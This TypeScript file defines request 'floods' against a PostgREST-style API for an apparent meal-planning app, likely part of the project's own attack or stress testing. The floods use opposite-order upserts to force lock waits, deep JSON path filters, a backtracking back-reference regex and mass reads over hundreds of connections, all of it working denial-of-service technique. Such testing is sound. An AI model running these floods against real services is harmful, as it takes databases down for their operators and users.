import type { Asked } from './connection.ts';
import type { AttackMember } from './members.ts';

/** One thing that an account does on many connections at once. */
export interface Flood {
  readonly name: string;
  readonly connections: number;
  readonly requests: readonly Asked[];
}

const upsert = 'resolution=merge-duplicates';

/** Ticks of so many foods in one body, in this order and in the opposite one. */
function tickBodies({ id }: AttackMember, count: number): readonly [Asked, Asked] {
  const rows = Array.from({ length: count }, (_, index) => ({
    user_id: id,
    item: `food-${index}`,
    ticked: true,
  }));
  const asked = (body: readonly object[]): Asked => ({
    method: 'POST',
    path: '/rest/v1/shopping_ticks?on_conflict=user_id,item',
    prefer: upsert,
    body: JSON.stringify(body),
  });
  return [asked(rows), asked(rows.toReversed())];
}

/** A hundred steps into the largest plans that may be stored: seconds of the database's time. */
const deepSteps = Array.from({ length: 100 }, (_, day) => `details->days->${day}->>gram=neq.x`);

/** A pattern that PostgreSQL tries in every way in which a text can be cut. */
const backReference = encodeURIComponent('(.*).*(.*)\\2.*\\1zz');

/** What makes the requests of one member wait for each other or for the processor, while each holds a connection. */
export function lockFloods(attacker: AttackMember): readonly Flood[] {
  const [two, twoBack] = tickBodies(attacker, 2);
  const [many, manyBack] = tickBodies(attacker, 200);
  const read = (query: string): Asked => ({
    method: 'GET',
    path: `/rest/v1/meal_plans?select=week&${query}`,
  });
  return [
    { name: '2 rows, opposite orders', connections: 20, requests: [two, twoBack] },
    { name: '2 rows, opposite orders', connections: 60, requests: [two, twoBack] },
    { name: '2 rows, one order', connections: 60, requests: [two] },
    { name: '200 rows, opposite orders', connections: 20, requests: [many, manyBack] },
    { name: '200 rows, one order', connections: 60, requests: [many] },
    { name: 'slow steps into JSON', connections: 2, requests: [read(deepSteps.join('&'))] },
    { name: 'slow steps into JSON', connections: 12, requests: [read(deepSteps.join('&'))] },
    {
      name: 'pattern with back references',
      connections: 12,
      requests: [read(`content=match.${backReference}`)],
    },
  ];
}

/** The largest plans that may be stored, asked for without end: the database, the processor and the memory at once. */
export function readFloods(): readonly Flood[] {
  const all: Asked = { method: 'GET', path: '/rest/v1/meal_plans?select=*' };
  const name: Asked = { method: 'GET', path: '/rest/v1/profiles?select=full_name' };
  return [
    { name: 'the largest plans', connections: 60, requests: [all] },
    { name: 'the largest plans', connections: 300, requests: [all] },
    { name: 'small reads', connections: 60, requests: [name] },
  ];
}
